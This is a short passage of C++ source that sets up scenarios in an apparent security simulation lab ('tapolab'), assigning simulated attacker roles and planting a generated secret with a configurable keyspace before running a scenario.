      lab->grant_attacker("evil_ap", "eve");
      break;
    default:
      throw Error(ErrorKind::argument, std::string("unknown setup '") + setup + "'");
  }
  return lab;
}

ScenarioReport run_standard_scenario(int id, LabOptions lab_opts, const ScenarioOptions& opts) {
  if (id == 1) lab_opts.secret = planted_secret(lab_opts.seed, opts.full_keyspace ? 32 : opts.keyspace_bits);
  auto lab = build_setup(setup_for_scenario(id), lab_opts);
  return run_scenario(*lab, id, ScenarioRoles{}, opts);
}

}  // namespace tapolab
